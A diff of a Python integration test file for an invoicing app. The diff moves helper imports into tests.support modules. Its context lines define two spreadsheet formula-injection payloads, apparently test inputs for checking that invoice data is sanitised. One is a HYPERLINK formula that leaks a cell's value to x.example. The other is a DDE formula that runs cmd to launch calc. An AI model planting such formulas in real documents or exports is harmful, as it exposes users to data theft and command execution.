@@ -10,11 +10,19 @@ from decimal import Decimal
 
 from aiohttp.test_utils import TestClient
 
-from tests.conftest import World
-from tests.integration.invoicing import COMMITMENT, OCTOBER, line, ok, post_invoice
-from tests.integration.test_api_projects import create_project
-from tests.integration.test_invoice_form import commitment_of, signed_in, submit
-from tests.integration.test_pages_admin import sign_in
+from tests.support.api import create_project
+from tests.support.invoicing import (
+    COMMITMENT,
+    OCTOBER,
+    commitment_of,
+    line,
+    ok,
+    post_invoice,
+    signed_in,
+    submit,
+)
+from tests.support.pages import sign_in
+from tests.support.world import World
 
 FORMULA_NUMBER = '=HYPERLINK("http://x.example/?"&A1)'
 FORMULA_COMPANY = "=cmd|' /C calc'!A0"
